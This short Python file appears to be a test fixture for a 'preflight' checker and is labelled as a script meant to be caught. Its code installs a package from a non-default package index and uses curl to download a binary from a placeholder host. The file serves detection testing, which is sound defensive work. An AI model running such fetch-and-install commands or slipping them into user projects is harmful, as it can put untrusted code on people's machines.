# wants: download a program and run it
# caught by: preflight
# as: prepare.py
import subprocess
import sys

subprocess.run([sys.executable, "-m", "pip", "install", "--index-url", "https://pypi.example.net/simple", "fast-rows"], check=False)
subprocess.run(["curl", "-o", "tool", "https://files.example.net/tool"], check=False)
